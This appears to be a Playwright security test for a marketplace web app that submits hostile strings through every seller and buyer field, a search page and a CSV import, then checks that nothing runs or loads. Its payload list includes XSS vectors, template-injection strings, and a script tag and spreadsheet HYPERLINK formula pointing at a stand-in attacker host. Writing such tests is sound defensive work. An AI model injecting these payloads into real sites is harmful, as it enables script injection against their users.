/** S11: user input is shown as text on every screen. */
import { newName, register, signIn } from "./support/people";
import { type APIResponse, expect, type Page, test } from "./support/test";

const WORDS = [
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "<svg/onload=alert(1)>",
  "'-alert(1)-'",
  "</title><script src=//evil.example/x></script>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'>",
  "<a href=javascript:alert(1)>cheap</a>",
  "<link rel=stylesheet href=//evil.example/a.css>",
  "<style>*{display:none}</style>",
  "{{constructor.constructor('alert(1)')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template is what is tried
  "${alert(1)} #{alert(1)} <%= alert(1) %>",
  "<0>{name}</0> {bids, plural, other {#}}",
  "&lt;script&gt;alert(1)&lt;/script&gt; %3Cscript%3E",
  "]]><!-- --!><plaintext>",
  '=HYPERLINK("//evil.example","x")',
  "\u202Emoc.elpmave\u202C abc",
  "Zero\u200Bwidth\u200D\uFEFFword\u2060s",
  "W".repeat(58),
  "𝕎𝒶𝓃𝑔𝒾 🜁🧴 𠜎𠜱",
  "Z̸̢̛̙͝a̵͎̾l̶̹̒g̸̙͐o̵͈͗",
  "__proto__",
];
const SIZES = [
  { width: 390, height: 844 },
  { width: 1440, height: 900 },
];

function watch(page: Page): string[] {
  const wrong: string[] = [];
  const home = new URL(process.env.WANGI_BASE_URL ?? "http://localhost:8080").host;
  page.on("dialog", (dialog) => {
    wrong.push(`a dialog opened: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("request", (request) => {
    const { host, protocol } = new URL(request.url());
    if (!["data:", "blob:"].includes(protocol) && host !== home) wrong.push(`something was fetched from ${host}`);
  });
  page.on("console", (line) => {
    if (/Content.Security.Policy|Refused to|violates/i.test(line.text())) wrong.push(line.text());
  });
  page.on("pageerror", (error) => wrong.push(`the page failed: ${error.message}`));
  return wrong;
}

async function tokenOf(page: Page): Promise<{ Authorization: string }> {
  const token = await page.evaluate(() => localStorage.getItem("app_token"));
  return { Authorization: `Bearer ${token}` };
}

async function newUser(page: Page, who: string): Promise<{ id: number; headers: { Authorization: string } }> {
  const name = newName(who);
  await register(page, name);
  await signIn(page, name);
  const headers = await tokenOf(page);
  const me = await (await page.request.get("/api/v1/auth/me", { headers })).json();
  return { id: me.id, headers };
}

async function answered(answer: APIResponse): Promise<boolean> {
  expect(answer.status(), await answer.text()).toBeLessThan(500);
  return answer.ok();
}

const bottle = (words: string) => ({
  name: words.slice(0, 60),
  brand: words.slice(0, 50),
  description: `${words} ${words} and used twice.`,
  notes: words.slice(0, 60),
  batchCode: words.slice(0, 30),
  price: 120,
  categoryId: 2,
  volume: 50,
  listingType: "fixed",
});

test("S11: hostile words in every field run nowhere and break no screen, the shopper's or the seller's, on a phone or a desktop", async ({
  browser,
}) => {
  const page = await (await browser.newContext()).newPage();
  const reader = await (await browser.newContext()).newPage();
  const other = await reader.context().newPage();
  const wrong = [...[page, reader, other].map(watch)];
  const seller = await newUser(page, "seller");
  const buyer = await newUser(reader, "buyer");
  const listed: number[] = [];
  for (const words of WORDS) {
    const whole = bottle(words);
    const tame = { name: "Fig Cloister", brand: "Quillon", batchCode: "QW1" };
    for (const body of [whole, { ...whole, batchCode: "QW1" }, { ...whole, ...tame }]) {
      const answer = await page.request.post("/api/products", { data: body, headers: seller.headers });
      if (!(await answered(answer))) continue;
      listed.push((await answer.json()).id);
      break;
    }
    const about = { shopName: words.slice(0, 50), bio: words, location: words.slice(0, 90) };
    await answered(await page.request.patch(`/api/user/${seller.id}`, { data: about, headers: seller.headers }));
    const draft = { form: { name: words, description: words, notes: words } };
    await answered(await page.request.post("/api/seller/drafts", { data: draft, headers: seller.headers }));
    const search = {
      name: words.slice(0, 60),
      wanted: { search: words.slice(0, 80), brand: [words.slice(0, 40)] },
      byMail: false,
    };
    await answered(await reader.request.post("/api/favorites/searches", { data: search, headers: buyer.headers }));
    const last = listed.at(-1);
    const report = { reason: "other", words };
    await answered(await reader.request.post(`/api/products/${last}/report`, { data: report, headers: buyer.headers }));
    await answered(await reader.request.post(`/api/favorites/${last}`, { headers: buyer.headers }));
  }
  expect(listed).toHaveLength(WORDS.length);

  const shelves = ["/", "/products?sort=newest", `/sellers/${seller.id}`, "/profile?tab=favorites"];
  const sellerPages = [
    "/seller/dashboard",
    "/seller/profile",
    "/profile",
    `/sell?edit=${listed.at(-4)}`,
    "/sell?type=fixed",
  ];
  const searches = WORDS.map((words) => `/products?search=${encodeURIComponent(words)}`);
  const listings = listed.map((id) => `/products/${id}`);
  const selling = lookAround(page, sellerPages).then(() => importFile(page));
  await Promise.all([selling, lookAround(reader, [...shelves, ...searches]), lookAround(other, listings)]);
  expect(wrong.flat()).toEqual([]);
});

async function importFile(page: Page): Promise<void> {
  const cell = (words: string) => `"${words.replaceAll('"', '""')}"`;
  const lines = WORDS.map((words) => [words, words, words, "much", words, words].map(cell).join(","));
  const table = ["name,brand,description,price,category,volume", ...lines].join("\n");
  await page.goto("/seller/dashboard");
  await page.getByRole("button", { name: "Import" }).click();
  const file = { name: `${WORDS[1]}.csv`, mimeType: "text/csv", buffer: Buffer.from(table) };
  await page.getByLabel("CSV file").setInputFiles(file);
  await expect(page.getByText(`0 of ${WORDS.length} lines can be listed.`)).toBeVisible();
  await looksSound(page, "the report of an import");
}

async function lookAround(page: Page, paths: string[]): Promise<void> {
  for (const path of paths) await visitScreen(page, path);
}

async function visitScreen(page: Page, path: string): Promise<void> {
  await page.goto(path);
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
  await page.waitForLoadState("networkidle");
  await looksSound(page, path);
}

async function looksSound(page: Page, where: string): Promise<void> {
  for (const size of SIZES) {
    await page.setViewportSize(size);
    const seen = await page.evaluate(() => ({
      beside: document.documentElement.scrollWidth - window.innerWidth,
      made: document.querySelectorAll(
        ":is(main, [role=dialog]) :is(script, iframe, style, link, plaintext), [onerror], [onload]",
      ).length,
      leads: [...document.querySelectorAll("a")].filter((link) => link.protocol === "javascript:").length,
    }));
    expect({ where, ...size, ...seen }).toEqual({ where, ...size, beside: 0, made: 0, leads: 0 });
  }
}
